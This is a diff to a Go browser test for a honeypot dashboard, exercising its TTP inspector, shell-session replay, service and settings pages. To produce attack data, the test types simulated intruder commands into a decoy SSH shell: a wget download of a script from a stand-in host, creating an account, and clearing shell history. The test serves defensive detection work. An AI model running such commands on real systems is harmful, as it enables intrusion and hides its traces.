@@ -3,6 +3,7 @@ package node_test
 import (
 	"context"
 	"fmt"
+	"io"
 	"net"
 	"net/http"
 	"os"
@@ -24,7 +25,9 @@ import (
 // TestDashboardInBrowser drives the dashboard in headless Chromium as an
 // operator would: sign in with the bootstrap password, choose a new one,
 // watch an ssh attack appear on the overview without reloading, then open
-// the attackers, the attacker's profile and the deckies. It saves a
+// the attackers, the attacker's profile with its TTP inspector and the
+// replay of a recorded shell, add a service to a decky, change a setting and
+// open the deckies. It saves a
 // screenshot of each screen, into docs/img/ under
 // DECNET_UPDATE_SCREENSHOTS=1 (the images of the README and
 // docs/dashboard.md) and into a temporary directory otherwise.
@@ -171,6 +174,68 @@ func TestDashboardInBrowser(t *testing.T) {
 	}
 	shot("dashboard-attacker.png")
 
+	// The TTP inspector: the attacker's commands (a download, a new
+	// account, a wiped history) are tagged; a technique opens in a drawer
+	// that takes the focus, and Escape gives it back to the row.
+	sshShellFrom(t, liveIP, s.Addr(d1, "ssh"), "root", root.Password,
+		"uname -a", "wget http://203.0.113.7/x.sh -O /tmp/x.sh", "useradd x", "history -c", "exit")
+	profile := browserGet(t, ctx, "profile address", chromedp.Location())
+	ttpRow := `#ttp a[data-drawer-open]`
+	replay := `//a[normalize-space()="Replay"]`
+	s.Eventually(20*time.Second, "techniques tagged and the shell recorded", func() bool {
+		if chromedp.Do(ctx, chromedp.Navigate(profile), chromedp.WaitVisible(chromedp.CSS("h1.mono"))) != nil {
+			return false
+		}
+		ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`document.querySelector("`+ttpRow+`") !== null &&
+			document.evaluate('`+replay+`', document, null, XPathResult.FIRST_ORDERED_NODE_TYPE, null).singleNodeValue !== null`))
+		return err == nil && ok
+	})
+	run("open the TTP inspector", chromedp.Click(chromedp.CSS(ttpRow)), chromedp.WaitVisible(chromedp.CSS(`#drawer:not([hidden]) #drawer-title`)))
+	drawer := browserGet(t, ctx, "drawer text", chromedp.Text(chromedp.CSS("#drawer")))
+	focusIn := browserGet(t, ctx, "focus in the drawer", chromedp.Evaluate[bool](`document.getElementById("drawer").contains(document.activeElement)`))
+	loc = browserGet(t, ctx, "inspector address", chromedp.Location())
+	if !focusIn || !strings.Contains(loc, "/ttp/T") || !strings.Contains(drawer, "Confidence") && !strings.Contains(drawer, "confidence") {
+		t.Fatalf("TTP inspector: focus inside %v, at %s, text %q", focusIn, loc, drawer)
+	}
+	shot("dashboard-ttp-inspector.png")
+	run("close the inspector", chromedp.KeyEvent("\x1b"), chromedp.WaitNotVisible(chromedp.CSS("#drawer")))
+	if !browserGet(t, ctx, "focus back on the row", chromedp.Evaluate[bool](`document.activeElement.matches("`+ttpRow+`")`)) {
+		t.Fatal("closing the inspector did not return the focus to its row")
+	}
+
+	// Session replay: the recorded shell plays back in the page.
+	run("open the replay", chromedp.Navigate(profile), chromedp.WaitVisible(chromedp.Search(replay)),
+		chromedp.Click(chromedp.Search(replay)), chromedp.WaitVisible(chromedp.CSS(".player-controls")),
+		chromedp.SetValue(chromedp.CSS("#replay-speed"), "8"),
+		chromedp.Click(chromedp.CSS("[data-replay-play]")))
+	browserGet(t, ctx, "the shell replayed",
+		chromedp.Poll[bool](`document.querySelector("[data-replay-screen]").textContent.includes("useradd x") &&
+			document.querySelector("[data-replay-play]").textContent !== "Pause"`, chromedp.WithPollingTimeout(30*time.Second)))
+	screen := browserGet(t, ctx, "replayed text", chromedp.Text(chromedp.CSS("[data-replay-screen]")))
+	if !strings.Contains(screen, "wget http://203.0.113.7/x.sh") || strings.Contains(screen, "\x1b") {
+		t.Fatalf("replayed terminal reads %q", screen)
+	}
+	shot("dashboard-replay.png")
+
+	// A service added through the decky page is listed on it.
+	run("add a service", chromedp.Navigate(base+"/ui/deckies/"+d2), chromedp.WaitVisible(chromedp.ID("add-service")),
+		chromedp.SetValue(chromedp.ID("add-service"), "ftp"),
+		chromedp.Click(chromedp.CSS(`#decky-add button[type="submit"]`)),
+		chromedp.WaitVisible(chromedp.ID("service-ftp")))
+	if n := browserGet(t, ctx, "services listed", chromedp.Evaluate[int](`document.querySelectorAll("#decky-services .card.service").length`)); n != 4 {
+		t.Fatalf("decky page lists %d services after the add, want 4", n)
+	}
+
+	// Settings: the admin changes the deployment limit.
+	run("settings", chromedp.Navigate(base+"/ui/settings"), chromedp.WaitVisible(chromedp.ID("deployment-limit-input")),
+		chromedp.SetValue(chromedp.ID("deployment-limit-input"), "20"),
+		chromedp.Click(chromedp.CSS(`#deployment-limit button[type="submit"]`)),
+		chromedp.WaitVisible(chromedp.ID("settings-notice")))
+	if v := browserGet(t, ctx, "limit shown", chromedp.Text(chromedp.ID("limit-value"))); strings.TrimSpace(v) != "20" {
+		t.Fatalf("settings show a limit of %q after setting 20", v)
+	}
+	shot("dashboard-settings.png")
+
 	run("deckies", chromedp.Navigate(base+"/ui/deckies"), chromedp.WaitVisible(chromedp.CSS(".card.decky")))
 	cards := browserGet(t, ctx, "decky cards", chromedp.Evaluate[int](`document.querySelectorAll(".card.decky").length`))
 	if cards != len(fleet) {
@@ -218,6 +283,53 @@ func sshFrom(t *testing.T, src, addr, user, pw string, commands ...string) {
 		}
 		_, _ = sess.Output(cmd)
 		sess.Close()
+	}
+}
+
+// sshShellFrom logs in as user/pw at addr from src and types lines into an
+// interactive shell on a pseudo-terminal, as a person would.
+func sshShellFrom(t *testing.T, src, addr, user, pw string, lines ...string) {
+	t.Helper()
+	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}, Timeout: 5 * time.Second}
+	conn, err := d.Dial("tcp", addr)
+	if err != nil {
+		t.Fatalf("dial %s from %s: %v", addr, src, err)
+	}
+	defer conn.Close()
+	cfg := &ssh.ClientConfig{User: user, Auth: []ssh.AuthMethod{ssh.Password(pw)},
+		HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 5 * time.Second}
+	c, chans, reqs, err := ssh.NewClientConn(conn, addr, cfg)
+	if err != nil {
+		t.Fatalf("ssh %s@%s: %v", user, addr, err)
+	}
+	client := ssh.NewClient(c, chans, reqs)
+	defer client.Close()
+	sess, err := client.NewSession()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer sess.Close()
+	if err := sess.RequestPty("xterm-256color", 24, 100, ssh.TerminalModes{ssh.ECHO: 1}); err != nil {
+		t.Fatal(err)
+	}
+	in, err := sess.StdinPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	sess.Stdout, sess.Stderr = io.Discard, io.Discard
+	if err := sess.Shell(); err != nil {
+		t.Fatal(err)
+	}
+	for _, l := range lines {
+		time.Sleep(300 * time.Millisecond)
+		fmt.Fprintf(in, "%s\r", l)
+	}
+	done := make(chan error, 1)
+	go func() { done <- sess.Wait() }()
+	select {
+	case <-done:
+	case <-time.After(10 * time.Second):
+		t.Fatal("the shell did not end")
 	}
 }
 
